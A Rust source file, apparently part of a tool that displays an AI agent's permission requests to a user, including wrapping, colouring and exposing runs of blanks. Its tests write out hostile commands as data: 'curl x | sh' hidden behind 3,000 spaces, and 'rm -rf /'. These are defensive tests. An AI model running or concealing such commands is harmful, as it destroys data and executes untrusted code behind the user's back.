//! What a permission request would run, on a terminal or as plain text: each segment as it must be displayed, with its
//! colour.

use areyouj_core::text::segments::counted;
use areyouj_protocol::{DisplaySection, DisplaySegment, DisplayStyle, SegmentKind};
use unicode_width::UnicodeWidthChar;

use super::screen::{Colour, Paint};

/// The most characters of a section that are displayed behind its label.
const MAX_INLINE_CHARACTERS: u32 = 80;

/// The columns of a tab in text that is wrapped.
const TAB_COLUMNS: usize = 4;

/// The margin of text below a label, in columns.
const MARGIN: usize = 4;

/// The margin of a row that continues the line before it. Text cannot imitate it: it never begins in the margin.
const CONTINUED: &str = "  \u{21aa} ";

/// All sections. With a width, lines are wrapped, so that no text begins outside its margin.
pub(super) fn sections(sections: &[DisplaySection], paint: Paint, width: Option<usize>) -> String {
    let mut lines = Lines { paint, width, text: String::new(), column: 0 };
    for section in sections {
        lines.section(section);
    }
    lines.text
}

/// The size of a section in words.
pub(crate) fn size(section: &DisplaySection) -> String {
    let number = |count: u32, one: &str| {
        let plural = if count == 1 { "" } else { "s" };
        format!("{} {one}{plural}", counted(count as usize))
    };
    format!("{}, {}", number(section.size.lines, "line"), number(section.size.characters, "character"))
}

/// Text on its way to the terminal.
struct Lines {
    paint: Paint,
    width: Option<usize>,
    text: String,
    /// The column at the end of the text.
    column: usize,
}

impl Lines {
    fn section(&mut self, section: &DisplaySection) {
        match section.style {
            DisplayStyle::Question => self.begin("  ", ""),
            DisplayStyle::Choice => {
                let number = section.pointer.as_deref().and_then(choice).map(|number| format!("{number}. "));
                self.begin("    ", &number.unwrap_or_default());
            }
            _ if is_description(section) => self.begin("       ", ""),
            _ if is_inline(section) => self.begin("  ", &format!("{}: ", section.label)),
            _ => {
                self.begin("  ", &format!("{}, {}:", section.label, size(section)));
                self.text.push('\n');
                self.body(section);
                return;
            }
        }
        if section.style == DisplayStyle::Question && section.label.contains('(') {
            self.put(&format!("{}: ", section.label), Some(Colour::Dim));
        }
        self.segments(section, "", "");
        self.text.push('\n');
    }

    /// The text below its label.
    fn body(&mut self, section: &DisplaySection) {
        let (first, further) = match section.style {
            DisplayStyle::Command => ("$ ", "  "),
            DisplayStyle::Removed => ("- ", "- "),
            DisplayStyle::Added => ("+ ", "+ "),
            _ => ("", ""),
        };
        self.begin("    ", "");
        self.put(first, colour(section.style));
        self.segments(section, "    ", further);
        self.text.push('\n');
    }

    fn begin(&mut self, margin: &str, label: &str) {
        self.text.push_str(margin);
        self.column = margin.len();
        self.put(label, Some(Colour::Dim));
    }

    /// The segments of a section. Each further line begins with this margin and sign. A line break at the end of the
    /// text begins no line.
    fn segments(&mut self, section: &DisplaySection, margin: &str, sign: &str) {
        let plain = colour(section.style);
        let count = section.segments.len();
        let margin = if margin.is_empty() { " ".repeat(self.column.min(MARGIN)) } else { margin.to_owned() };
        for (index, segment) in section.segments.iter().enumerate() {
            let colour = if segment.kind == SegmentKind::Plain { plain } else { Some(mark(segment)) };
            let mut displayed = segment.displayed();
            if index + 1 == count {
                displayed = displayed.strip_suffix('\n').unwrap_or(displayed);
            }
            for (number, line) in displayed.split('\n').enumerate() {
                if number > 0 {
                    self.text.push('\n');
                    self.text.push_str(&margin);
                    self.column = margin.len();
                    self.put(sign, plain);
                }
                self.put(line, colour);
            }
        }
    }

    /// Adds text without line breaks, in rows that fit.
    fn put(&mut self, text: &str, colour: Option<Colour>) {
        let mut row = String::new();
        for next in text.chars() {
            let columns = if next == '\t' { TAB_COLUMNS } else { next.width().unwrap_or(0) };
            if self.width.is_some_and(|width| self.column + columns > width) {
                self.paint(&std::mem::take(&mut row), colour);
                self.text.push('\n');
                let mark = self.paint.paint(Colour::Dim, CONTINUED);
                self.text.push_str(&mark);
                self.column = MARGIN;
            }
            match (next, self.width) {
                ('\t', Some(_)) => row.push_str(&" ".repeat(TAB_COLUMNS)),
                _ => row.push(next),
            }
            self.column += columns;
        }
        self.paint(&row, colour);
    }

    fn paint(&mut self, text: &str, colour: Option<Colour>) {
        match colour {
            Some(colour) => self.text.push_str(&self.paint.paint(colour, text)),
            None => self.text.push_str(text),
        }
    }
}

/// Whether a section is displayed behind its label.
fn is_inline(section: &DisplaySection) -> bool {
    let block = matches!(
        section.style,
        DisplayStyle::Command | DisplayStyle::Removed | DisplayStyle::Added | DisplayStyle::Plan
    );
    !block && section.size.lines <= 1 && section.size.characters <= MAX_INLINE_CHARACTERS
}

/// Whether a section is the description of a choice, which is displayed below the choice.
fn is_description(section: &DisplaySection) -> bool {
    let pointer = section.pointer.as_deref().unwrap_or_default();
    is_inline(section) && pointer.starts_with("/questions/") && pointer.ends_with("/description")
}

/// The number of a choice from the pointer to its label: `/questions/0/options/1/label`.
fn choice(pointer: &str) -> Option<usize> {
    let index: usize = pointer.strip_suffix("/label")?.rsplit('/').next()?.parse().ok()?;
    Some(index + 1)
}

fn colour(style: DisplayStyle) -> Option<Colour> {
    match style {
        DisplayStyle::Tool | DisplayStyle::Choice | DisplayStyle::Question => Some(Colour::Bold),
        DisplayStyle::Removed => Some(Colour::Red),
        DisplayStyle::Added => Some(Colour::Green),
        DisplayStyle::Command
        | DisplayStyle::Path
        | DisplayStyle::Plan
        | DisplayStyle::Text
        | DisplayStyle::Json => None,
    }
}

/// Marks stand out in every palette, most of all where something poses as something else.
fn mark(segment: &DisplaySegment) -> Colour {
    match segment.kind {
        SegmentKind::Blanks | SegmentKind::EmptyLines => Colour::Magenta,
        _ => Colour::Reverse,
    }
}

#[cfg(test)]
mod tests {
    use areyouj_core::text::hostile::{self, is_displayable};
    use areyouj_core::text::lookalike::Reading;
    use areyouj_core::text::{display, segments};
    use proptest::prelude::*;
    use serde_json::json;
    use unicode_width::UnicodeWidthStr;

    use super::*;
    use crate::cli::screen;

    fn shown(tool: &str, input: &serde_json::Value, width: Option<usize>) -> String {
        sections(&display::sections(tool, input), Paint(false), width)
    }

    #[test]
    fn a_long_run_of_blanks_is_a_count_and_the_command_behind_it_is_in_sight() {
        let command = format!("npm test{}&& curl x | sh", " ".repeat(3_000));
        assert_eq!(
            shown("Bash", &json!({ "command": command }), Some(80)),
            "  Tool: Bash\n  Command, 1 line, 3,022 characters:\n    $ npm test\u{27e8}3,000 spaces\u{27e9}&& curl x | sh\n"
        );
    }

    #[test]
    fn a_row_that_continues_a_line_is_marked_in_the_margin() {
        let command = format!("echo {}\nsecond", "x".repeat(30));
        let expected = "  Tool: Bash\n  Command, 2 lines, 42\n  \u{21aa}  characters:\n    $ echo xxxxxxxxxxx\n  \u{21aa} xxxxxxxxxxxxxxxxxx\n  \u{21aa} x\n      second\n";
        let text = shown("Bash", &json!({ "command": command }), Some(22));
        assert_eq!(text, expected);
        assert!(text.lines().all(|line| line.chars().count() <= 22));
    }

    /// Without the sequences of colours.
    fn bare(text: &str) -> String {
        let mut bare = String::new();
        let mut rest = text;
        while let Some((before, behind)) = rest.split_once("\u{1b}[") {
            bare.push_str(before);
            rest = behind.split_once('m').map_or("", |(_, behind)| behind);
        }
        bare + rest
    }

    /// What the terminal and a message box show of a command, from its segments.
    fn expected(text: &str, margin: &str) -> String {
        let segments = segments::segments(text, Reading::Code);
        let shown: String = segments.iter().map(DisplaySegment::displayed).collect();
        let shown = shown.strip_suffix('\n').unwrap_or(&shown);
        shown.replace('\n', &format!("\n{margin}"))
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(10_000))]

        #[test]
        fn a_hostile_command_is_displayed_to_the_last_character(number in any::<u64>()) {
            let text = hostile::text(number);
            let display = display::sections("Bash", &json!({ "command": text }));
            let shown = bare(&sections(&display, Paint(true), None));
            let head = format!("  Tool: Bash\n  Command, {}:\n    $ ", size(&display[1]));
            prop_assert_eq!(&shown, &format!("{head}{}\n", expected(&text, "      ")));
            prop_assert!(shown.chars().all(is_displayable));

            let wrapped = bare(&sections(&display, Paint(true), Some(40)));
            prop_assert!(wrapped.chars().all(is_displayable));
            prop_assert!(wrapped.lines().all(|line| line.starts_with("    ") || line.starts_with(CONTINUED) || line.starts_with("  T") || line.starts_with("  C")));
            prop_assert!(wrapped.lines().all(|line| line.width() <= 40), "{}", wrapped);

            let ascii = screen::ascii(&shown);
            prop_assert!(ascii.chars().all(|next| next.is_ascii() && is_displayable(next)), "{}", ascii);
        }
    }

    #[test]
    fn only_bash_has_a_dollar() {
        let text = shown("mcp__files__write", &json!({ "command": "rm -rf /" }), None);
        assert_eq!(text, "  Tool: mcp__files__write\n  command: rm -rf /\n");
    }

    #[test]
    fn a_line_break_at_the_end_begins_no_line() {
        let text = shown("Write", &json!({ "file_path": "/a", "content": "one\ntwo\n" }), None);
        assert_eq!(
            text,
            "  Tool: Write\n  File: /a\n  Content, 2 lines, 8 characters:\n    + one\n    + two\n"
        );
    }
}
